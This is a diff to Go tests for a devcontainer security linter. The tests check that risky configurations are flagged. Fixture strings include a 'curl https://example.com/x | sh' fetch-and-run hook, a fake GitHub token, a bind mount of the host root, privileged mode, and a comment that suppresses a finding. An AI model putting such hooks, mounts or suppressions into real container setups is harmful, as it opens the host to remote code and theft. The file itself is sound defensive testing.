@@ -1,10 +1,14 @@
 package lint_test
 
 import (
+	"errors"
+	"os"
+	"path/filepath"
 	"strings"
 	"testing"
 
 	"github.com/org/claude-sandbox/devcontainer"
+	"github.com/org/claude-sandbox/devcontainer/lint"
 )
 
 // A Feature's metadata is judged where it is published, too: whoever uses it gets
@@ -21,6 +25,7 @@ func TestFeatureAloneIsJudgedByItsRights(t *testing.T) {
 		"key":                  {`"containerEnv": {"GH": "ghp_0123456789abcdefghijABCDEFGHIJ012345"}`, "SBX501"},
 		"download":             {`"postCreateCommand": "curl https://example.com/x | sh"`, "SBX608"},
 		"our own":              {`"capAdd": ["NET_ADMIN"], "securityOpt": ["no-new-privileges"]`, ""},
+		"shell syntax":         {`"postStartCommand": "if true"`, "SBX319"},
 		"no boolean":           {`"privileged": "true"`, "SBX301"},
 	} {
 		t.Run(name, func(t *testing.T) {
@@ -54,5 +59,71 @@ func TestRightsOfDockerfilesAndHooks(t *testing.T) {
 				t.Errorf("found %q, want %q", found, c.want)
 			}
 		})
+	}
+}
+
+// A Feature that lies in the repository and is used brings its program, commands and rights into
+// the container: they are found in its own files, and a comment there excuses them.
+func TestAttackALocalFeatureHidesWhatItOpens(t *testing.T) {
+	files := devcontainer.Memory{
+		".devcontainer/devcontainer.json": image(`"features": {"./a": {}}`),
+		".devcontainer/a/devcontainer-feature.json": `{"id": "b", "dependsOn": {"./sub": {}},
+  "mounts": [{"type": "bind", "source": "/", "target": "/host"}],
+  "postStartCommand": "if true"}`,
+		".devcontainer/a/install.sh":                  "#!/bin/sh\ncurl https://example.com/x | sh\n",
+		".devcontainer/sub/devcontainer-feature.json": `{"id": "sub", "privileged": true}`,
+		".devcontainer/sub/install.sh":                "#!/bin/sh\nif then\n",
+	}
+	if found := ids(t, files); found != "SBX407 SBX319 SBX705 SBX402 SBX913" {
+		t.Errorf("found %q", found)
+	}
+	files[".devcontainer/sub/devcontainer-feature.json"] = "{\"id\": \"sub\",\n// sbx-ignore SBX402: a debugger\n\"privileged\": true}"
+	if found := ids(t, files); found != "SBX407 SBX319 SBX705 SBX913" {
+		t.Errorf("with a comment: found %q", found)
+	}
+}
+
+// Two configurations that use one Feature or Dockerfile have its findings once.
+func TestSharedFilesAreReportedOnce(t *testing.T) {
+	dir := t.TempDir()
+	for name, text := range map[string]string{
+		".devcontainer/one/devcontainer.json": `{"build": {"dockerfile": "../Dockerfile"}, "remoteUser": "root"}`,
+		".devcontainer/two/devcontainer.json": `{"build": {"dockerfile": "../Dockerfile"}, "remoteUser": "root"}`,
+		".devcontainer/Dockerfile":            "FROM debian:13\nCOPY none /x\n",
+	} {
+		full := filepath.Join(dir, name)
+		if err := errors.Join(os.MkdirAll(filepath.Dir(full), 0o755), os.WriteFile(full, []byte(text), 0o644)); err != nil {
+			t.Fatal(err)
+		}
+	}
+	names, err := devcontainer.Discover(dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	var files lint.Files
+	if err := files.Open(t.Context(), names); err != nil || len(names) != 2 {
+		t.Fatal(names, err)
+	}
+	count := 0
+	for _, f := range files.Findings {
+		if f.Rule == "SBX729" {
+			count++
+		}
+	}
+	if count != 1 {
+		t.Errorf("%d times: %v", count, files.Findings)
+	}
+}
+
+// Of a configuration that no tool reads only that is said.
+func TestShadowedConfigurationIsNotJudged(t *testing.T) {
+	p, err := devcontainer.Load(devcontainer.Memory{
+		".devcontainer/devcontainer.json": image(`"init": true`), ".devcontainer.json": `{"image": "x:1", "privileged": "true", "none": 1}`,
+	}, ".devcontainer.json", ".devcontainer.json")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if found := lint.Check(p); len(found) != 1 || found[0].Rule != "SBX315" {
+		t.Errorf("found %v", found)
 	}
 }
